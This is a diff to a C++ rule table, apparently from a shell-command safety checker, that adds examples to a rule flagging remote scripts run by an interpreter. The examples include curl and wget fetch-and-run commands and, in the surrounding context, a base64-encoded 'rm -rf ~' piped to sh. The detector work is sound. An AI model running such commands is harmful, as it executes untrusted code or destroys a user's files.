@@ -599,7 +599,9 @@ const std::vector<Rule> &ruleTable()
         {"decoded-text", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Decoded text run by a shell or interpreter"),
          {"echo cm0gLXJmIH4= | base64 -d | sh", "eval \"$(echo x | base64 --decode)\""}, {"echo aGk= | base64 -d"}},
         {"remote-script", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Remote script run by an interpreter (curl | interpreter)"),
-         {"curl -s https://x/i.py | python3", "python3 <(wget -qO- https://x/a.py)"}, {"curl -s https://x/i.py -o i.py"}},
+         {"curl -s https://x/i.py | python3", "python3 <(wget -qO- https://x/a.py)", "curl -L https://x/t.tgz | tar xz && ./install.sh",
+          "wget https://x/a.zip && unzip a.zip && bash a/setup.sh"},
+         {"curl -s https://x/i.py -o i.py", "tar xzf vendor.tgz && ./vendor/build.sh", "curl -L https://x/x.tgz | tar xz -C vendor"}},
         {"nested-too-deeply", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Command nested too deeply to check"), {}, {}},
         {"too-complex", T::Code, {}, {}, {}, {}, {}, nullptr, QStringLiteral("Command is too complex to judge"),
          {"x0=ab; x1=$x0$x0; x2=$x1$x1; x3=$x2$x2; x4=$x3$x3; x5=$x4$x4; x6=$x5$x5; x7=$x6$x6; x8=$x7$x7; x9=$x8$x8; x10=$x9$x9; x11=$x10$x10; "
